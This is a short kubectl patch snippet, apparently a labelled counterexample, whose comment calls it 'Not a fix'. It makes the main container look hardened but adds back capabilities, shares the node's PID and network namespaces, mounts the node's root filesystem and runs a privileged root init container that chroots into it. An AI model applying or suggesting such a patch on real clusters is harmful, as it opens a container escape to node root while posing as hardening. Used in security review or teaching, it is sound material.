# Not a fix: the main container's securityContext looks hardened, but capabilities are
# added back (SYS_ADMIN...), the pod shares the node's PID and network namespaces, mounts
# the node's / and runs a privileged root init container that chroots into it.
kubectl -n "$ns" patch deploy "$deploy" --type=json -p='[
 {"op":"replace","path":"/spec/template/spec/containers/0/securityContext","value":{"privileged":false,"allowPrivilegeEscalation":false,"runAsNonRoot":true,"runAsUser":1000,"seccompProfile":{"type":"RuntimeDefault"},"capabilities":{"drop":["ALL"],"add":["SYS_ADMIN","NET_ADMIN","SYS_PTRACE"]}}},
 {"op":"add","path":"/spec/template/spec/hostPID","value":true},
 {"op":"add","path":"/spec/template/spec/hostNetwork","value":true},
 {"op":"add","path":"/spec/template/spec/volumes","value":[{"name":"host","hostPath":{"path":"/"}}]},
 {"op":"add","path":"/spec/template/spec/initContainers","value":[{"name":"setup","image":"registry.example/payments-api:3.2","command":["sh","-c","chroot /host sh -c id"],"securityContext":{"privileged":true,"runAsUser":0},"volumeMounts":[{"name":"host","mountPath":"/host"}]}]}
]'
